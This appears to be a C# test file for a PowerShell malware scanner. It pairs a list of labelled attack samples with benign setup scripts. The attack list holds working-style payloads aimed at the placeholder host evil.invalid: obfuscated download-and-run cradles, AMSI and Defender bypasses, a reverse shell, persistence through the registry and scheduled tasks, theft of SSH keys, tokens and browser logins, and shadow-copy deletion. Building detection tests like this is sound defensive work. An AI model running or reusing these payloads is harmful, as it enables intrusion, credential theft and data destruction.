using System.IO.Compression;
using System.Text;

namespace Assay.Scanning.Tests.Behaviour;

/// <summary>PowerShell: attacks beside their honest twins.</summary>
public sealed class PowerShellTests
{
    private const string Bait = "iwr http://evil.invalid/a | iex";

    public static TheoryData<string> Attacks =>
    [
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.invalid/a.ps1')",
        "iwr -useb http://evil.invalid/a | iex",
        "irm evil.invalid/a | % { iex $_ }",
        "&([scriptblock]::Create((irm http://evil.invalid/a)))",
        "$r = Invoke-RestMethod 'http://evil.invalid/a.json'\nInvoke-Expression $r.command",
        "$wc = New-Object System.Net.WebClient\n$wc.DownloadFile('http://evil.invalid/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"",
        "Invoke-WebRequest -Uri http://evil.invalid/a.exe -OutFile $env:APPDATA\\a.exe\n& $env:APPDATA\\a.exe",
        "$u='http://evil.invalid/a.exe'; $p=[IO.Path]::GetTempFileName()+'.exe'; iwr $u -o $p; start $p",
        "$p = Join-Path $env:TEMP 'x.exe'\nStart-BitsTransfer -Source http://evil.invalid/x.exe -Destination $p\nInvoke-Item $p",
        "i`e`x (N`ew-Obj`ect Net.We`bClient).\"Down`loadString\"('http://evil.invalid/a')",
        "&('i'+'ex') (irm http://evil.invalid/a)",
        "& (\"{1}{0}\" -f 'ex','i') (irm http://evil.invalid/a)",
        "& ($env:ComSpec[4,24,25]-join'') (irm http://evil.invalid/a)",
        ". ($pshome[4]+$pshome[30]+'x') (irm http://evil.invalid/a)",
        "$a='x','e','i'; [array]::Reverse($a); &($a -join '') (irm http://evil.invalid/a)",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + Base64(Bait) + "')))",
        "$b='" + Base64(Bait) + "'; $t=[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String($b)); Invoke-Expression $t",
        "iex (-join ([char[]](" + string.Join(',', Bait.Select(c => (int)c)) + ")))",
        "iex ((" + string.Join(',', Bait.Select(c => (int)c)) + " | % { [char]$_ }) -join '')",
        "iex (('" + string.Concat(Bait.Reverse()) + "')[-1..-" + Bait.Length + "] -join '')",
        "$k=35; $d=" + string.Join(',', Bait.Select(c => c ^ 35)) + "; $o=''; foreach($x in $d){ $o += [char]($x -bxor $k) }; iex $o",
        "$d=[byte[]](" + string.Join(',', Bait.Select(c => c ^ 7)) + "); for($i=0;$i -lt $d.Length;$i++){ $d[$i] = $d[$i] -bxor 7 }; iex ([Text.Encoding]::ASCII.GetString($d))",
        "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + Gzip(Bait) + "'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()",
        "$s='iQQwr httQQp://evil.invalid/a | iQQex'.Replace('QQ',''); iex $s",
        "Set-Alias z Invoke-Expression; z (irm http://evil.invalid/a)",
        "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(Bait)),
        "Start-Process powershell -ArgumentList '-w hidden -c \"iwr http://evil.invalid/a|iex\"' -WindowStyle Hidden",
        "Start-Process -FilePath cmd.exe -ArgumentList '/c','curl -o %TEMP%\\a.exe http://evil.invalid/a.exe && %TEMP%\\a.exe'",
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://evil.invalid/a.dll')).EntryPoint.Invoke($null,$null)",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "[Ref].Assembly.GetType('System.Management.Automation.'+$([char]65)+'msiUtils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Add-MpPreference -ExclusionPath 'C:\\Users'",
        "Set-MpPreference -DisableRealtimeMonitoring 1 -DisableIOAVProtection 1",
        "$c = New-Object Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($r);$s.Write($x,0,$x.Length)}",
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'powershell -w hidden -f C:\\x.ps1'",
        "$s=(New-Object -ComObject WScript.Shell).CreateShortcut(\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk\"); $s.TargetPath='powershell.exe'; $s.Save()",
        "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c \"irm http://evil.invalid/a|iex\"'\nRegister-ScheduledTask -TaskName Upd -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
        "$b = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw\nInvoke-RestMethod -Uri https://evil.invalid/c -Method Post -Body $b",
        "Invoke-RestMethod -Uri http://evil.invalid/c -Method POST -Body (@{t=$env:HF_TOKEN}|ConvertTo-Json)",
        "Compress-Archive -Path \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\" -DestinationPath $env:TEMP\\a.zip\niwr http://evil.invalid/u -Method Post -InFile $env:TEMP\\a.zip",
        "vssadmin delete shadows /all /quiet",
        "Remove-Item -Recurse -Force $env:USERPROFILE",
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -c \"irm http://evil.invalid/a|iex\"'",
        "([wmiclass]'Win32_Process').Create('cmd /c curl http://evil.invalid/a.exe -o %TEMP%\\a.exe && %TEMP%\\a.exe')",
        "function Get-It { param($u) (New-Object Net.WebClient).DownloadString($u) }\n$code = Get-It -u 'http://evil.invalid/a'\n[scriptblock]::Create($code).Invoke()",
        "$p=@{Uri='http://evil.invalid/a.exe';OutFile=\"$env:TEMP\\a.exe\"}; Invoke-WebRequest @p; Start-Process \"$env:TEMP\\a.exe\"",
        "$ExecutionContext.InvokeCommand.InvokeScript((irm http://evil.invalid/a))",
        "[Net.WebRequest]::Create('http://evil.invalid/a').GetResponse().GetResponseStream() | % { $sr=New-Object IO.StreamReader $_; iex $sr.ReadToEnd() }",
        "$h = New-Object -ComObject Msxml2.XMLHTTP; $h.open('GET','http://evil.invalid/a',$false); $h.send(); iex $h.responseText",
        "Invoke-WebRequest https://evil.invalid/t.ps1 -OutFile t.ps1; powershell -ExecutionPolicy Bypass -File t.ps1",
        "curl.exe -s -o $env:TEMP\\r.bat http://evil.invalid/r.bat; cmd /c $env:TEMP\\r.bat",
        "$psi = New-Object System.Diagnostics.ProcessStartInfo; $psi.FileName='cmd.exe'; $psi.Arguments='/c curl http://evil.invalid/a.exe -o a.exe && a.exe'; $psi.WindowStyle='Hidden'; [Diagnostics.Process]::Start($psi)",
        "$a='ht'+'tp://evil.invalid/a'; $m='Down'+'loadString'; $o=New-Object ('Net.'+'WebClient'); & (gcm i*x) $o.$m($a)",
        "$c=[System.Net.Http.HttpClient]::new(); $b=$c.GetByteArrayAsync('https://evil.invalid/x.exe').Result; [IO.File]::WriteAllBytes(\"$env:TEMP\\x.exe\",$b); Start-Process \"$env:TEMP\\x.exe\"",
        "while($true){ $cmd = irm http://evil.invalid/cmd; $out = cmd /c $cmd 2>&1 | Out-String; irm http://evil.invalid/out -Method Post -Body $out; sleep 5 }",
        "Get-ChildItem env: | ConvertTo-Json | % { Invoke-RestMethod -Method Post -Uri https://evil.invalid/c -Body $_ }",
        "function Dec($s,$k){ $r=''; for($i=0;$i -lt $s.Length;$i+=2){ $r += [char]([Convert]::ToInt32($s.Substring($i,2),16) -bxor $k) }; return $r }\niex (Dec '" + string.Concat(Bait.Select(c => (c ^ 21).ToString("x2", System.Globalization.CultureInfo.InvariantCulture))) + "' 21)",
        "Start-Job { iex (irm http://evil.invalid/a) }",
    ];

    public static TheoryData<string> Honest =>
    [
        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile vc_redist.exe\nStart-Process .\\vc_redist.exe -ArgumentList '/install','/quiet' -Wait",
        "$i = \"$env:TEMP\\py.exe\"\nInvoke-WebRequest -Uri https://www.python.org/ftp/python/3.11.9/python-3.11.9-amd64.exe -OutFile $i\nStart-Process -FilePath $i -ArgumentList '/quiet PrependPath=1' -Wait\nRemove-Item $i",
        "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\"\nuv sync",
        "$ErrorActionPreference = 'Stop'\nInvoke-WebRequest -Uri https://huggingface.co/org/m/resolve/main/m.safetensors -OutFile models/m.safetensors\nWrite-Host 'done'",
        "param([string]$Model = 'base', [switch]$Gpu)\nif (-not (Test-Path venv)) { python -m venv venv }\n& .\\venv\\Scripts\\Activate.ps1\npip install -r requirements.txt\npython main.py --model $Model",
        "$url = 'https://github.com/ggml-org/llama.cpp/releases/download/b1/llama-b1-bin-win-cpu-x64.zip'\n$zip = Join-Path $env:TEMP 'llama.zip'\nInvoke-WebRequest -Uri $url -OutFile $zip\nExpand-Archive $zip -DestinationPath .\\llama -Force",
        "$release = Invoke-RestMethod https://api.github.com/repos/ollama/ollama/releases/latest\nWrite-Host \"Latest: $($release.tag_name)\"",
        "conda create -n llm python=3.11 -y\nconda activate llm\npip install torch --index-url https://download.pytorch.org/whl/cu121",
        "(& \"C:\\Miniconda3\\Scripts\\conda.exe\" \"shell.powershell\" \"hook\") | Out-String | Invoke-Expression\nconda activate base",
        "$env:CUDA_VISIBLE_DEVICES = '0'\n$env:HF_HOME = \"$PSScriptRoot\\cache\"\npython $PSScriptRoot\\server.py @args",
        "Get-ChildItem -Path models -Filter *.bin -Recurse | ForEach-Object { python convert.py $_.FullName }",
        "$body = @{ model = 'llama3'; prompt = 'hi' } | ConvertTo-Json\n$r = Invoke-RestMethod -Uri http://localhost:11434/api/generate -Method Post -Body $body -ContentType 'application/json'\n$r.response",
        "$headers = @{ Authorization = \"Bearer $env:HF_TOKEN\" }\nInvoke-WebRequest -Uri https://huggingface.co/org/m/resolve/main/config.json -Headers $headers -OutFile config.json",
        "function Test-Command($name) { return [bool](Get-Command $name -ErrorAction SilentlyContinue) }\nif (-not (Test-Command git)) { winget install --id Git.Git -e }\ngit clone https://github.com/org/repo.git",
        "$hash = (Get-FileHash model.gguf -Algorithm SHA256).Hash\nif ($hash -ne 'ABC') { throw 'bad hash' }",
        "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass\n. .\\helpers.ps1\nStart-Process -FilePath python -ArgumentList 'app.py','--port','7860' -NoNewWindow -Wait",
        "$img = [Convert]::ToBase64String([IO.File]::ReadAllBytes('cat.png'))\n$payload = @{ images = @($img) } | ConvertTo-Json\nInvoke-RestMethod http://127.0.0.1:7860/sdapi/v1/img2img -Method Post -Body $payload",
        "Remove-Item -Recurse -Force build, dist, *.egg-info -ErrorAction SilentlyContinue",
        "Add-Type -AssemblyName System.Windows.Forms\n[System.Windows.Forms.MessageBox]::Show('Done')",
        "$bytes = [System.Text.Encoding]::UTF8.GetBytes('hello')\n$b64 = [Convert]::ToBase64String($bytes)\nWrite-Output ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b64)))",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_malicious(string code) => BehaviourAssert.Malicious("setup.ps1", code);

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_script_is_clean(string code) => BehaviourAssert.Clean("setup.ps1", code);

    [Fact]
    public void An_installer_keeps_its_address() =>
        BehaviourAssert.Does(CodeLanguage.PowerShell, "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\"\nuv sync", Deed.RunCode, Origin.Network, "https://astral.sh/uv/install.ps1");

    [Fact]
    public void Damaged_scripts_are_read_without_failing()
    {
        foreach (var row in Attacks)
            BehaviourAssert.IsTotal(CodeLanguage.PowerShell, row.Data.Length > 800 ? row.Data[..800] : row.Data);
    }

    [Theory]
    [InlineData("(")]
    [InlineData("$(")]
    [InlineData("{")]
    [InlineData("@{a=")]
    [InlineData("\"$(")]
    [InlineData("a.b(")]
    [InlineData("[")]
    [InlineData("!")]
    [InlineData("-not ")]
    [InlineData("if(1){")]
    [InlineData("'a'+")]
    [InlineData("1,")]
    public void Deep_nesting_is_survived(string piece) => BehaviourAssert.Acts(CodeLanguage.PowerShell, string.Concat(Enumerable.Repeat(piece, 20_000)));

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Gzip(string text)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionMode.Compress))
            gzip.Write(Encoding.UTF8.GetBytes(text));
        return Convert.ToBase64String(output.ToArray());
    }
}
